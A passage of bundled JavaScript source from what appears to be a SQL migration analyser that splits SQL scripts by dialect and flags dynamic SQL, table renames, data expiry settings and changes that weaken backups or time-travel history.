  } else if (scan.isKind(next, "variable") && !scan.isOp(next + 1, "=")) {
    const variable = scan.at(next).text;
    scan.emit({
      op: "dynamic-sql",
      reason: `${label} ${variable} runs the procedure named in ${variable}, which is only known at run time`,
      span: scan.span(i)
    });
  } else if (scan.isKind(next, "string") || scan.isWord(next, "FORMAT") || isConcatOp(scan, scan.after(next))) {
    readExecuted(scan, i, next, scan.expressionEnd(next, "INTO", "USING"), label);
  }
}
function readPrepare(scan, i) {
  if (!scan.isWord(i + 2, "FROM")) return;
  readExecuted(scan, i, i + 3, scan.expressionEnd(i + 3), "PREPARE");
}
function readSpExecuteSql(scan, i) {
  let from = i + 1;
  if (scan.isKind(from, "variable") && scan.isOp(from + 1, "=")) from += 2;
  readExecuted(scan, i, from, scan.expressionEnd(from), "sp_executesql");
}
function readExecuted(scan, keyword, from, to, label) {
  if (from >= to) return;
  const first = scan.at(from);
  if (to - from === 1 && first.kind === "string") {
    scan.ops.push(...relocate(scan.readSql(first.value), literalLocator(first)));
    return;
  }
  const excerpt = scan.source(from, to).replace(/\s+/g, " ").slice(0, 60);
  scan.emit({
    op: "dynamic-sql",
    reason: `${label} runs SQL that is only known at run time: ${excerpt}`,
    span: scan.span(keyword)
  });
  if (to - from === 1) readVariable(scan, first);
}
function readVariable(scan, token) {
  const value = scan.context.variables.get(token.text.toLowerCase());
  if (!value || value.read) return;
  value.read = true;
  scan.ops.push(...relocate(scan.readSql(value.text), value.locate));
}
function readSet(scan, i) {
  for (let j = i + 1; ; ) {
    const t = scan.at(j);
    const local = t?.kind === "word" && (scan.dialect === "mysql" || scan.dialect === "bigquery");
    if (!t || t.kind !== "variable" && !(local && startsInnerStatement(scan, i))) return;
    if (!scan.isOp(j + 1, "=", ":=", "+=")) return;
    const to = scan.expressionEnd(j + 2);
    assign(scan, t.text, j + 2, to, scan.isOp(j + 1, "+="));
    if (!scan.isPunct(to, ",")) return;
    j = to + 1;
  }
}
function readDeclare(scan, i) {
  for (let j = i + 1; scan.isKind(j, "variable", "word"); ) {
    const name = scan.at(j).text;
    const value = scan.scanTo(
      j + 1,
      (k) => scan.isPunct(k, ",") || isDefault(scan, k) || scan.startsStatement(k, true)
    );
    let end = value;
    if (isDefault(scan, value)) {
      end = scan.expressionEnd(value + 1);
      assign(scan, name, value + 1, end, false);
    }
    if (!scan.isPunct(end, ",")) return;
    j = end + 1;
  }
}
function isDefault(scan, k) {
  return scan.isOp(k, "=") || scan.isWord(k, "DEFAULT");
}
function startsInnerStatement(scan, i) {
  const prev = scan.at(i - 1);
  return !prev || prev.kind === "punct" && prev.text === ";" || INNER_STATEMENT_LEADS.has(prev.upper ?? "");
}
function assign(scan, name, from, to, append) {
  const variables = scan.context.variables;
  const key = name.toLowerCase();
  const previous = variables.get(key);
  const first = scan.at(from);
  const folded = from < to ? foldExpression(scan, from) : void 0;
  variables.delete(key);
  if (!first || !folded || folded.end !== to) return;
  if (to - from === 1 && first.kind === "string" && !append) {
    variables.set(key, { text: first.value, locate: literalLocator(first), read: false });
    return;
  }
  if (to - from === 1 && folded.literal) {
    const source = variables.get(first.text.toLowerCase()) ?? previous;
    if (source) variables.set(key, source);
    return;
  }
  if (!folded.literal || !(folded.built || append)) return;
  const text = (append ? previous?.text ?? "" : "") + folded.text;
  const span = scan.spanOf(from, to);
  scan.foldedUntil = Math.max(scan.foldedUntil, to);
  for (const op of scan.readSql(text)) scan.emit({ ...op, span });
  variables.set(key, { text, locate: () => span, read: true });
}

// src/parsers/sql/recognise-rename.ts
function readRenameTable(scan, i) {
  if (!scan.isWord(i + 1, "TABLE", "TABLES")) return;
  let j = i + 2;
  for (; ; ) {
    const from = scan.readName(j);
    if (!from || !scan.isWord(from.end, "TO")) return;
    const to = scan.readName(from.end + 1);
    if (!to) return;
    scan.emit({ op: "rename-table", from: from.parts, to: to.parts.join("."), span: scan.span(i) });
    scan.reference(from);
    if (!scan.isPunct(to.end, ",")) return;
    j = to.end + 1;
  }
}
var SP_RENAME_PARAMETERS = ["@OBJNAME", "@NEWNAME", "@OBJTYPE"];
function readSpRename(scan, i) {
  const args = literalArguments(scan, scan.isPunct(i + 1, "(") ? i + 2 : i + 1);
  const [objectName, newName, objectType] = args;
  if (objectName === void 0 || newName === void 0) return;
  const parts = sqlServerNameParts(objectName);
  const type = (objectType ?? "OBJECT").toUpperCase();
  const span = scan.span(i);
  if (type === "COLUMN" && parts.length > 1) {
    scan.emit({ op: "rename-column", table: parts.slice(0, -1), from: parts.at(-1), to: newName, span });
  } else if (type === "OBJECT") {
    scan.emit({ op: "rename-table", from: parts, to: newName, span });
  }
}
function literalArguments(scan, from) {
  const args = [];
  let j = from;
  for (let position = 0; position < 3; position++) {
    let slot = position;
    if (scan.isKind(j, "variable") && scan.isOp(j + 1, "=")) {
      slot = SP_RENAME_PARAMETERS.indexOf(scan.at(j).text.toUpperCase());
      j += 2;
    }
    const t = scan.at(j);
    if (t?.kind !== "string") break;
    if (slot >= 0) args[slot] = t.value;
    if (!scan.isPunct(j + 1, ",")) break;
    j += 2;
  }
  return args;
}
function sqlServerNameParts(name) {
  const parts = name.match(/\[(?:[^\]]|\]\])*\]|"(?:[^"]|"")*"|[^.]+/g) ?? [];
  return parts.map((p) => /^[["]/.test(p) ? p.slice(1, -1).replace(/\]\]|""/g, (m) => m[0]) : p.trim());
}

// src/parsers/sql/recognise-retention.ts
var CREATE_MODIFIERS = /* @__PURE__ */ new Set(["OR", "REPLACE", "TRANSIENT", "TEMPORARY", "TEMP", "EXTERNAL", "GLOBAL", "LOCAL"]);
function headBefore(scan, i) {
  for (let k = i - 1; k >= 0; k--) {
    if (scan.isPunct(k, ";")) return void 0;
    const verb = scan.upper(k);
    if (verb !== "ALTER" && verb !== "CREATE") continue;
    let j = k + 1;
    while (verb === "CREATE" && CREATE_MODIFIERS.has(scan.upper(j))) j++;
    const kind = scan.upper(j);
    if (kind === "") return void 0;
    const name = scan.readName(scan.skipIfExists(j + 1));
    return { verb, kind, name: name && name.end <= i ? name.parts : [] };
  }
  return void 0;
}
var DAYS_PER_UNIT = {
  SECOND: 1 / 86400,
  MINUTE: 1 / 1440,
  HOUR: 1 / 24,
  DAY: 1,
  WEEK: 7,
  MONTH: 30,
  QUARTER: 91,
  YEAR: 365
};
function intervalAt(scan, j) {
  if (scan.isWord(j, "INTERVAL")) {
    const amount = Number(scan.at(j + 1)?.kind === "string" ? scan.at(j + 1).value : scan.at(j + 1)?.text);
    const unit = DAYS_PER_UNIT[scan.upper(j + 2).replace(/S$/, "")];
    return Number.isFinite(amount) && unit !== void 0 ? amount * unit : void 0;
  }
  const fn = /^TOINTERVAL([A-Z]+?)S?$/.exec(scan.upper(j));
  if (fn && scan.isPunct(j + 1, "(") && scan.isKind(j + 2, "number") && scan.isPunct(j + 3, ")")) {
    const unit = DAYS_PER_UNIT[fn[1]];
    return unit === void 0 ? void 0 : Number(scan.at(j + 2).text) * unit;
  }
  return void 0;
}
function readTtl(scan, i) {
  const head = headBefore(scan, i);
  if (head?.kind !== "TABLE") return;
  const end = scan.scanTo(i + 1, (k) => scan.isWord(k, "SETTINGS", "COMMENT") || scan.startsStatement(k, true));
  let deletes = false;
  let days2 = Infinity;
  for (let start = i + 1; start < end; ) {
    const stop = Math.min(
      end,
      scan.scanTo(start, (k) => k >= end || scan.isPunct(k, ","))
    );
    let age;
    let keeps = false;
    for (let k = start; k < stop; k++) {
      age ??= intervalAt(scan, k);
      if (scan.isWord(k, "TO") && scan.isWord(k + 1, "DISK", "VOLUME") || scan.isWord(k, "RECOMPRESS", "GROUP")) {
        keeps = true;
      }
    }
    if (!keeps) {
      deletes = true;
      days2 = age === void 0 || days2 === void 0 ? void 0 : Math.min(days2, age);
    }
    start = stop + 1;
  }
  if (!deletes) return;
  scan.emit({
    op: "expiry",
    table: head.name,
    setting: "TTL",
    ...days2 === void 0 ? {} : { days: days2 },
    ...head.verb === "CREATE" ? { initial: true } : {},
    span: scan.span(scan.isWord(i - 1, "MODIFY") ? i - 1 : i)
  });
}
function readExpirationOption(scan, i) {
  if (!scan.isOp(i + 1, "=") || scan.isWord(i + 2, "NULL")) return;
  const head = headBefore(scan, i);
  if (head?.kind !== "TABLE") return;
  const setting = scan.at(i).text;
  const value = scan.at(i + 2);
  const days2 = scan.upper(i) === "PARTITION_EXPIRATION_DAYS" && value?.kind === "number" ? Number(value.text) : void 0;
  scan.emit({
    op: "expiry",
    table: head.name,
    setting,
    ...days2 === void 0 ? {} : { days: days2 },
    ...head.verb === "CREATE" ? { initial: true } : {},
    span: scan.span(i)
  });
}
function historyOff(scan, at, target, setting) {
  scan.emit({ op: "history-off", target, setting, span: scan.span(at) });
}
function readTimeTravel(scan, i) {
  if (!scan.isOp(i + 1, "=")) return;
  const value = Number(scan.at(i + 2)?.text);
  const hours = scan.upper(i) === "MAX_TIME_TRAVEL_HOURS";
  if (!Number.isFinite(value) || value >= (hours ? 168 : 1)) return;
  const head = headBefore(scan, i);
  if (head?.verb !== "ALTER") return;
  historyOff(scan, i, head.name, `${scan.at(i).text} = ${value} (Time Travel ${hours ? "cut short" : "off"})`);
}
function readVacuum(scan, i) {
  if (i > 0 && !scan.isPunct(i - 1, ";")) return;
  const name = scan.readName(i + 1);
  if (!name) return;
  const end = scan.statementEnd(i, true);
  for (let k = name.end; k < end; k++) if (scan.isWord(k, "DRY")) return;
  for (let k = name.end; k < end; k++) {
    if (!scan.isWord(k, "RETAIN") || !scan.isKind(k + 1, "number")) continue;
    const hours = Number(scan.at(k + 1).text);
    const target = scan.isPunct(name.end, ".") ? [scan.source(i + 1, k)] : name.parts;
    if (hours < 168) historyOff(scan, i, target, `VACUUM RETAIN ${hours} HOURS (old versions deleted)`);
    return;
  }
}
function readRetentionCheck(scan, i) {
  if (!scan.isPunct(i + 1, ".") || !scan.isWord(i + 2, "ENABLED")) return;
  if (!scan.isOp(i + 3, "=") && !scan.isWord(i + 3, "TO")) return;
  if (!scan.isWord(i + 4, "FALSE") && scan.at(i + 4)?.value?.toLowerCase() !== "false") return;
  historyOff(scan, i, [], "delta.retentionDurationCheck.enabled = false (the guard on short VACUUM retention)");
}
var DELTA_RETENTION = {
  "delta.deletedfileretentionduration": 7,
  "delta.logretentionduration": 30
};
function readTblProperties(scan, i) {
  const head = headBefore(scan, i);
  if (head?.verb !== "ALTER" || !scan.isPunct(i + 1, "(")) return;
  const close = scan.partner(i + 1);
  for (let k = i + 2; k < close; k++) {
    const key = scan.at(k);
    const floor = key?.kind === "string" ? DELTA_RETENTION[key.value.toLowerCase()] : void 0;
    if (floor === void 0 || !scan.isOp(k + 1, "=") || scan.at(k + 2)?.kind !== "string") continue;
    const m = /^\s*interval\s+(\d+)\s+([a-z]+?)s?\s*$/i.exec(scan.at(k + 2).value);
    const unit = m ? DAYS_PER_UNIT[m[2].toUpperCase()] : void 0;
    if (m && unit !== void 0 && Number(m[1]) * unit < floor) {
      historyOff(scan, k, head.name, `${key.value} = '${scan.at(k + 2).value}'`);
    }
  }
}
function readFlashback(scan, i) {
  const head = headBefore(scan, i);
  if (head?.verb !== "ALTER") return;
  if (scan.isWord(i - 1, "NO") && scan.isWord(i + 1, "ARCHIVE")) {
    historyOff(scan, i - 1, head.name, "NO FLASHBACK ARCHIVE (its history purged)");
  } else if (head.kind === "DATABASE" && scan.isWord(i + 1, "OFF")) {
    historyOff(scan, i, head.name, "FLASHBACK OFF");
  }
}
function readRecycleBin(scan, i) {
  if (scan.isWord(i - 1, "PURGE"))
    historyOff(scan, i - 1, [], `PURGE ${scan.at(i).text} (dropped tables gone for good)`);
  else if (scan.isWord(i - 1, "SET") && scan.isOp(i + 1, "=") && scan.isWord(i + 2, "OFF")) {
    historyOff(scan, i, [], "recyclebin = OFF (dropped tables gone for good)");
  }
}
function readRecoveryModel(scan, i) {
  if (!scan.isWord(i - 1, "SET") || !scan.isWord(i + 1, "SIMPLE")) return;
  const head = headBefore(scan, i);
  if (head?.verb !== "ALTER" || head.kind !== "DATABASE") return;
  historyOff(scan, i - 1, head.name, "RECOVERY SIMPLE (no point-in-time restore)");
}

// src/parsers/sql/split.ts
var ROUTINE_KINDS = /* @__PURE__ */ new Set(["PROCEDURE", "PROC", "FUNCTION", "TRIGGER", "EVENT"]);
var TRANSACTION_WORDS = /* @__PURE__ */ new Set(["TRAN", "TRANSACTION", "WORK", "DISTRIBUTED", "DIALOG", "CONVERSATION"]);
var COMPOUND_STARTS = /* @__PURE__ */ new Set(["IF", "WHILE", "LOOP", "REPEAT", "FOR"]);
var INNER_STATEMENT_LEADS2 = /* @__PURE__ */ new Set(["BEGIN", "THEN", "ELSE", "DO", "LOOP", "REPEAT"]);
function splitStatements(text, dialect) {
  return new Splitter(text, dialect).run();
}
function forEachStatement(text, dialect, visit) {
  new Splitter(text, dialect, visit).run();
}
var Splitter = class {
  constructor(text, dialect, sink) {
    this.text = text;
    this.dialect = dialect;
    this.sink = sink;
    this.lexer = new SqlLexer(text, dialect);
  }
  text;
  dialect;
  sink;
  lexer;
  statements = [];
  tokens = [];
  comments = [];
  parenDepth = 0;
  blockDepth = 0;
  /** The statement defines a procedure, function, trigger or event, whose BEGIN opens its body. */
  routine = false;
  /** Comments starting before this offset sit on the line of the delimiter just read. */
  sameLineEnd = -1;
  run() {
    const lexer = this.lexer;
    for (; ; ) {
      const at = lexer.skipSpace();
      if (at >= this.text.length) break;
      if (lexer.delimiter && this.text.startsWith(lexer.delimiter, at)) {
        lexer.pos = at + lexer.delimiter.length;
        this.finish(lexer.pos);
        continue;
      }
      const token = lexer.next();
      if (token) this.accept(token);
    }
    this.finish(this.text.length);
    if (this.comments.length) this.statements.at(-1)?.comments.push(...this.comments);
    if (this.sink) this.statements.splice(0).forEach(this.sink);
    return this.statements;
  }
  accept(token) {
    if (token.kind === "comment") {
      const last = this.statements.at(-1);
      if (this.tokens.length === 0 && last && token.start < this.sameLineEnd) last.comments.push(token);
      else this.comments.push(token);
      return;
    }
    if (this.dialect === "mysql" && token.upper === "DELIMITER" && this.isDelimiterCommand(token)) {
      this.finish(token.start);
      this.changeDelimiter(token);
      return;
    }
    if (this.dialect === "sqlserver" && token.upper === "GO" && this.isGoLine(token)) {
      this.finish(token.end);
      this.lexer.pos = skipCount(this.text, token.end);
      return;
    }
    if (token.text === ";" && token.kind === "punct" && !this.lexer.delimiter && this.atTopLevel()) {
      this.finish(token.end);
      return;
    }
    this.track(token);
    this.tokens.push(token);
  }
  atTopLevel() {
    return this.parenDepth === 0 && this.blockDepth === 0;
  }
  finish(delimiterEnd) {
    const tokens = this.tokens;
    if (tokens.length) {
      const span = { start: tokens[0].start, end: tokens.at(-1).end };
      if (this.sink && this.statements.length) this.sink(this.statements.pop());
      this.statements.push({ span, tokens, comments: this.comments });
      this.comments = [];
      const lineEnd = this.text.indexOf("\n", delimiterEnd);
      this.sameLineEnd = lineEnd < 0 ? this.text.length : lineEnd;
      if (this.dialect === "postgres" && isCopyFromStdin(tokens)) this.skipCopyData(delimiterEnd);
    }
    this.tokens = [];
    this.parenDepth = 0;
    this.blockDepth = 0;
    this.routine = false;
  }
  track(token) {
    if (token.kind === "punct") {
      if (token.text === "(") this.parenDepth++;
      else if (token.text === ")") this.parenDepth = Math.max(0, this.parenDepth - 1);
      return;
    }
    if (token.kind !== "word") return;
    const word2 = token.upper;
    const prev = this.tokens.at(-1);
    if (this.tokens[0]?.upper === "CREATE" && this.blockDepth === 0 && ROUTINE_KINDS.has(word2)) this.routine = true;
    if (this.opensBlock(word2, prev)) this.blockDepth++;
    else if (word2 === "END" && this.closesBlock()) this.blockDepth = Math.max(0, this.blockDepth - 1);
  }
  opensBlock(word2, prev) {
    if (word2 === "CASE") return prev?.upper !== "END";
    if (word2 === "BEGIN") return this.beginOpensBlock();
    if (COMPOUND_STARTS.has(word2)) {
      return (this.dialect === "mysql" || this.dialect === "bigquery") && startsInnerStatement2(prev);
    }
    return false;
  }
  beginOpensBlock() {
    const next = this.peek();
    const word2 = typeof next === "object" ? next.upper : void 0;
    if (this.dialect === "postgres") return word2 === "ATOMIC";
    if (next === void 0 || next === "delimiter" || word2 && TRANSACTION_WORDS.has(word2)) return false;
    if (this.dialect === "sqlserver" || this.routine || this.blockDepth > 0) return true;
    return this.dialect !== "sqlite" && this.tokens.length === 0;
  }
  closesBlock() {
    if (this.dialect !== "sqlserver") return true;
    const next = this.peek();
    return !(typeof next === "object" && next.upper === "CONVERSATION");
  }
  /** The next code token, without moving. */
  peek() {
    const lexer = this.lexer;
    const saved = lexer.save();
    try {
      for (; ; ) {
        const at = lexer.skipSpace();
        if (lexer.delimiter && this.text.startsWith(lexer.delimiter, at)) return "delimiter";
        const token = lexer.next();
        if (!token) return void 0;
        if (token.kind === "comment") continue;
        return token.text === ";" && !lexer.delimiter ? "delimiter" : token;
      }
    } finally {
      lexer.restore(saved);
    }
  }
  /**
   * The client reads `DELIMITER x` at the start of a statement, or alone on its line with a
   * delimiter of punctuation after a statement that lacks its own; `delimiter VARCHAR(1)` is a column.
   */
  isDelimiterCommand(token) {
    if (this.tokens.length === 0) return true;
    const rest = this.text.slice(token.end, endOfLine(this.text, token.end));
    return atLineStart(this.text, token.start) && /^[ \t]+[^\s\w()]+[ \t]*\r?$/.test(rest);
  }
  /** `DELIMITER //`: the rest of the line is the new delimiter, and the line is no statement. */
  changeDelimiter(token) {
    const text = this.text;
    const lineEnd = endOfLine(text, token.end);
    const delimiter = text.slice(token.end, lineEnd).trim().split(/\s+/)[0] ?? "";
    if (delimiter) this.lexer.delimiter = delimiter === ";" ? void 0 : delimiter;
    this.lexer.pos = lineEnd;
  }
  /** `GO` alone on its line (optionally with a repeat count or a comment) ends a T-SQL batch. */
  isGoLine(token) {
    const text = this.text;
    if (!atLineStart(text, token.start)) return false;
    const rest = text.slice(token.end, endOfLine(text, token.end));
    return /^[ \t]*(\d+[ \t]*)?(--.*)?\r?$/.test(rest);
  }
  /** psql reads the lines after `COPY ... FROM stdin;` as data, up to a line `\.`. */
  skipCopyData(from) {
    const lineEnd = this.text.indexOf("\n", from);
    if (lineEnd < 0) return;
    const terminator = /^\\\.[ \t\r]*$/gm;
    terminator.lastIndex = lineEnd + 1;
    const found = terminator.exec(this.text);
    if (found) this.lexer.pos = found.index + found[0].length;
  }
};
function startsInnerStatement2(prev) {
  if (!prev) return true;
  if (prev.kind === "punct") return prev.text === ";";
  if (prev.kind === "op") return prev.text === ":";
  return INNER_STATEMENT_LEADS2.has(prev.upper ?? "");
}
function isCopyFromStdin(tokens) {
  const copy = tokens.findIndex((t) => t.upper === "COPY");
  return copy >= 0 && tokens.some((t, i) => i > copy && t.upper === "STDIN" && tokens[i - 1]?.upper === "FROM");
}
function atLineStart(text, at) {
  let i = at - 1;
  while (i >= 0 && (text[i] === " " || text[i] === "	")) i--;
  return i < 0 || text[i] === "\n" || text[i] === "\r";
}
function endOfLine(text, from) {
  const end = text.indexOf("\n", from);
  return end < 0 ? text.length : end;
}
function skipCount(text, from) {
  const count = /[ \t]*\d*/y;
  count.lastIndex = from;
  return from + (count.exec(text)?.[0].length ?? 0);
}

// src/parsers/sql/recognise.ts
var MAX_DYNAMIC_DEPTH = 4;
var READERS = new Map(
  Object.entries({
    DROP: readDrop,
    ALTER: readAlter,
    TRUNCATE: readTruncate,
    DELETE: readDelete,
    UPDATE: readUpdate,
    INSERT: readInsert,
    REPLACE: readInsert,
    MERGE: readMerge,
    CREATE: readCreate,
    INTO: readSelectInto,
    RENAME: readRenameTable,
    SP_RENAME: readSpRename,
    EXEC: readExecute,
    EXECUTE: readExecute,
    PREPARE: readPrepare,
    SP_EXECUTESQL: readSpExecuteSql,
    SET: readSet,
    DECLARE: readDeclare,
    TTL: readTtl,
    EXPIRATION_TIMESTAMP: readExpirationOption,
    PARTITION_EXPIRATION_DAYS: readExpirationOption,
    DATA_RETENTION_TIME_IN_DAYS: readTimeTravel,
    MAX_TIME_TRAVEL_HOURS: readTimeTravel,
    VACUUM: readVacuum,
    RETENTIONDURATIONCHECK: readRetentionCheck,
    TBLPROPERTIES: readTblProperties,
    FLASHBACK: readFlashback,
    RECYCLEBIN: readRecycleBin,
    DBA_RECYCLEBIN: readRecycleBin,
    RECOVERY: readRecoveryModel
  })
);
function createRecogniseContext() {
  return { variables: /* @__PURE__ */ new Map(), depth: 0 };
}
function recogniseStatement(stmt, text, dialect, context = createRecogniseContext()) {
  return recogniseTokens(stmt.tokens, text, dialect, context);
}
function recogniseStatements(text, dialect) {
  const context = createRecogniseContext();
  return splitStatements(text, dialect).map((statement) => ({
    statement,
    operations: recogniseStatement(statement, text, dialect, context)
  }));
}
function recogniseTokens(tokens, text, dialect, context) {
  const readSql = (sql) => readEmbedded(sql, dialect, context.depth + 1);
  const scan = new Scan(tokens, text, dialect, context, readSql);
  for (let i = 0; i < tokens.length; i++) {
    try {
      readBuiltString(scan, i);
      const word2 = tokens[i].upper;
      if (word2) READERS.get(word2)?.(scan, i);
    } catch {
    }
  }
  return scan.ops;
}
function readEmbedded(sql, dialect, depth) {
  if (depth > MAX_DYNAMIC_DEPTH || sql.trim() === "") return [];
  const context = { variables: /* @__PURE__ */ new Map(), depth };
  return splitStatements(sql, dialect).flatMap((stmt) => recogniseTokens(stmt.tokens, sql, dialect, context));
}

// src/parsers/sql/plpgsql.ts
function plpgsqlOperations(createFunction, at, readSql) {
  let functions;
  try {
    functions = parsePlPgSql(createFunction);
  } catch {
    return [];
  }
  const ops = [];
  let cursor = 0;
  const locate = (query) => {
    const found = createFunction.indexOf(query, cursor);
    const index = found >= 0 ? found : createFunction.indexOf(query);
    if (found >= 0) cursor = found + query.length;
    return index >= 0 ? index : 0;
  };
  walk(functions, (type, fields) => {
    if (type === "PLpgSQL_stmt_execsql") {
      const query = exprQuery(fields.sqlstmt);
      if (query) ops.push(...readSql(query, at + locate(query)));
    } else if (type === "PLpgSQL_stmt_dynexecute" || type === "PLpgSQL_stmt_return_query") {
      const query = exprQuery(fields.query ?? fields.dynquery);
      if (query && (type === "PLpgSQL_stmt_dynexecute" || fields.dynquery)) {
        ops.push(...dynamicSqlOperations(query, at + locate(query)));
      }
    }
  });
  return ops;
}
function exprQuery(node) {
  return str(fieldsOf(node, "PLpgSQL_expr")?.query);
}
function dynamicSqlOperations(expression, at) {
  const prefix = "EXECUTE ";
  const shift = at - prefix.length;
  const read = recogniseStatements(`${prefix}${expression}`, "postgres").flatMap((s) => s.operations);
  const ops = read.map((op) => shiftOperation(op, shift));
  const tokens = tokenize(expression, "postgres").filter((t) => t.kind !== "comment");
  const loneLiteral = tokens.length === 1 && tokens[0].kind === "string";
  if (loneLiteral || ops.some((op) => op.op === "dynamic-sql")) return ops;
  const excerpt = expression.replace(/\s+/g, " ").trim().slice(0, 60);
  const span = { start: at, end: at + expression.length };
  return [{ op: "dynamic-sql", reason: `EXECUTE runs SQL built at run time: ${excerpt}`, span }, ...ops];
}

// src/parsers/sql/preprocess.ts
var META_COMMAND = /^[ \t]*\\/;
var COPY_FROM_STDIN = /^\s*copy\b[^;]*\bfrom\s+stdin\b[^;]*;\s*$/i;
var LIQUIBASE_HEADER = /^--\s*liquibase formatted sql/i;
var LIQUIBASE_ROLLBACK = /^(\s*--\s*rollback\b)(.*)$/i;
var DOWN_MARKER = /^\s*--\s*(migrate:down|\+goose\s+down|\+migrate\s+down)\b/i;
var UP_MARKER = /^\s*--\s*(migrate:up|\+goose\s+up|\+migrate\s+up)\b/i;
function prepareSql(source) {
  const edits = [];
  const rollbackRanges = [];
  const firstEnd = source.indexOf("\n");
  const liquibase = LIQUIBASE_HEADER.test(source.slice(0, firstEnd < 0 ? source.length : firstEnd));
  let inCopyData = false;
  let downStart;
  for (let offset = 0; offset <= source.length; ) {
    const nl = source.indexOf("\n", offset);
    const end = nl < 0 ? source.length : nl;
    if (!inCopyData && !liquibase && !mayMark(source, offset, end)) {
      if (nl < 0) break;
      offset = nl + 1;
      continue;
    }
    const line = source.slice(offset, end);
    if (inCopyData) {
      if (/^\\\.\s*$/.test(line)) inCopyData = false;
      edits.push({ start: offset, end, text: blank(line) });
    } else if (META_COMMAND.test(line)) {
      edits.push({ start: offset, end, text: blank(line) });
    } else if (COPY_FROM_STDIN.test(line)) {
      inCopyData = true;
    } else if (liquibase && LIQUIBASE_ROLLBACK.test(line)) {
      const [, marker = "", sql = ""] = LIQUIBASE_ROLLBACK.exec(line) ?? [];
      edits.push({ start: offset, end, text: " ".repeat(marker.length) + sql });
      rollbackRanges.push({ start: offset, end });
    } else if (DOWN_MARKER.test(line)) {
      downStart ??= offset;
    } else if (UP_MARKER.test(line) && downStart !== void 0) {
      rollbackRanges.push({ start: downStart, end: offset });
      downStart = void 0;
    }
    if (nl < 0) break;
    offset = nl + 1;
  }
  if (downStart !== void 0) rollbackRanges.push({ start: downStart, end: source.length });
  if (edits.length === 0) return { text: source, rollbackRanges };
  const parts = [];
  let copied = 0;
  for (const edit of edits) {
    parts.push(source.slice(copied, edit.start), edit.text);
    copied = edit.end;
  }
  parts.push(source.slice(copied));
  return { text: parts.join(""), rollbackRanges };
}
function mayMark(source, start, end) {
  let i = start;
  while (i < end && isRegExpSpace(source.charCodeAt(i))) i++;
  if (i >= end) return false;
  const c = source.charCodeAt(i);
  return c === 92 || c === 99 || c === 67 || c === 45;
}
function isRegExpSpace(c) {
  if (c <= 32) return c === 32 || c >= 9 && c <= 13;
  if (c < 160) return false;
  return c === 160 || c === 5760 || c >= 8192 && c <= 8202 || c === 8232 || c === 8233 || c === 8239 || c === 8287 || c === 12288 || c === 65279;
}
function blank(line) {
  return line.replace(/[^\r]/g, " ");
}
function inRanges(offset, ranges) {
  return ranges.some((r) => offset >= r.start && offset < r.end);
}

// src/parsers/sql/prefilter.ts
var TRIGGERS = /* @__PURE__ */ new Set([
  "DROP",
  "TRUNCATE",
  "DELETE",
  "UPDATE",
  "RENAME",
  "REASSIGN",
  "DETACH",
  "EXECUTE",
  "PREPARE",
  "MERGE",
  "CALL"
]);
var PAIRED = /* @__PURE__ */ new Map([
  ["ALTER", 1],
  ["TYPE", 2],
  ["CREATE", 4],
  ["TABLE", 8]
]);
var PAIRS = [1 | 2, 4 | 8];
var TRIGGER_IN_TEXT = new RegExp(`(?<![A-Z_])(?:${[...TRIGGERS, "ALTER"].join("|")})(?![A-Z0-9_$])`);
var ROUTINE_WORDS = /* @__PURE__ */ new Set(["FUNCTION", "PROCEDURE", "ROUTINE"]);
function prefilterStatement(stmt, text, qualifierMatters) {
  const tokens = stmt.tokens;
  if (tokens[0]?.upper === "DO") return { parse: true };
  let routine = false;
  let paired = 0;
  const calls = [];
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i];
    const next = tokens[i + 1];
    if (t.kind === "word") {
      const word2 = t.upper ?? keywordForm(t.text);
      if (TRIGGERS.has(word2)) return { parse: true };
      if (ROUTINE_WORDS.has(word2)) routine = true;
      const bit = PAIRED.get(word2);
      if (bit !== void 0) {
        paired |= bit;
        if (PAIRS.some((pair) => (paired & pair) === pair)) return { parse: true };
      }
    }
    if (t.kind === "word" || t.kind === "quoted-ident") {
      if (t.kind === "quoted-ident" && /^u&/i.test(t.text)) return { parse: true };
      if (next?.kind === "punct" && next.text === "." && qualifierMatters(t.value)) return { parse: true };
      if (next?.kind === "punct" && next.text === "(") calls.push(t.value.toLowerCase());
    }
  }
  if (routine && tokens.some((t) => t.kind === "string" && bodyMatters(t))) return { parse: true };
  if (recogniseStatement(stmt, text, "postgres").some((op) => op.op !== "reference")) return { parse: true };
  return { parse: false, calls };
}
function bodyMatters(t) {
  return TRIGGER_IN_TEXT.test(keywordForm(t.value));
}
function skippedRoutineDefinition(stmt) {
  const tokens = stmt.tokens;
  if (tokens[0]?.upper !== "CREATE") return [];
  let i = 1;
  if (tokens[i]?.upper === "OR" && tokens[i + 1]?.upper === "REPLACE") i += 2;
  if (tokens[i]?.upper !== "FUNCTION" && tokens[i]?.upper !== "PROCEDURE") return [];
  const name = [];
  for (let j = i + 1; j < tokens.length; j += 2) {
    const t = tokens[j];
    if (t.kind !== "word" && t.kind !== "quoted-ident") break;
    name.push(t.kind === "word" ? t.text.toLowerCase() : t.value);
    if (tokens[j + 1]?.kind !== "punct" || tokens[j + 1]?.text !== ".") break;
  }
  if (name.length === 0) return [];
  return [{ op: "define-routine", name, span: stmt.span, body: stmt.span }];
}

// src/parsers/sql/routines.ts
var DESCRIPTIVE = /* @__PURE__ */ new Set(["reference", "call", "define-routine", "create-table"]);
function routineOperations(statements, text, dialect) {
  return withRoutineCalls(withRoutineDefinitions(statements, text, dialect));
}
function withRoutineDefinitions(statements, text, dialect) {
  return statements.map(
    (s) => s.reader === "tokenizer" ? { ...s, operations: [...s.operations, ...tokenRoutineOps(s, text, dialect)] } : s
  );
}
function routinesOf(withDefinitions) {
  const routines = /* @__PURE__ */ new Map();
  for (const stmt of withDefinitions) {
    for (const op of stmt.operations) {
      if (op.op !== "define-routine") continue;
      const body = stmt.operations.filter(
        (inner) => !DESCRIPTIVE.has(inner.op) && inner.span.start >= op.body.start && inner.span.end <= op.body.end
      );
      if (body.length) routines.set(routineKey(op.name), body);
    }
  }
  return routines;
}
function withRoutineCalls(withRoutines) {
  const routines = routinesOf(withRoutines);
  const calledHere = (op) => op.op !== "call" || routines.has(routineKey(op.name));
  const trimmed = withRoutines.map(
    (stmt) => stmt.operations.every(calledHere) ? stmt : { ...stmt, operations: stmt.operations.filter(calledHere) }
  );
  if (routines.size === 0) return trimmed;
  return trimmed.map((stmt) => {
    const called = stmt.operations.flatMap((op) => {
      if (op.op !== "call") return [];
      const inside = stmt.operations.some(
        (d) => d.op === "define-routine" && op.span.start >= d.body.start && op.span.end <= d.body.end
      );
      if (inside) return [];
